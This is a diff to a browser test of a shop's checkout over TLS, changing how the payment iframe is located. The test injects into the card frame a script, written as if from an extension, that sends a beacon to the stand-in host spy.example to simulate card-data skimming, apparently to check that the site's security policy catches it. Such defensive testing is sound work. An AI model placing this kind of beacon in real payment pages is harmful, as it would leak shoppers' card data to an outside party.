@@ -117,9 +117,10 @@ test('the shop is paid in a browser over TLS, which reports what a policy of our
   const page = await browser.newPage();
   await page.goto(stack.shop);
   await page.locator('form[data-ready="true"]').waitFor();
-  const fields = page.frames().find((frame) => frame.url().endsWith('/fields/payment'));
   // As an extension would that was let into the frame.
-  await fields?.evaluate(`void (new Image().src = 'https://spy.example:8443/seen?card=1#x')`);
+  await cardFrame(page, '#payment')
+    .locator('body')
+    .evaluate(`void (new Image().src = 'https://spy.example:8443/seen?card=1#x')`);
   await page.fill('input[name=email]', 'jenny@example.com');
   await typeCard(cardFrame(page, '#payment'), { number: '4242424242424242' });
   await page.click('#submit');
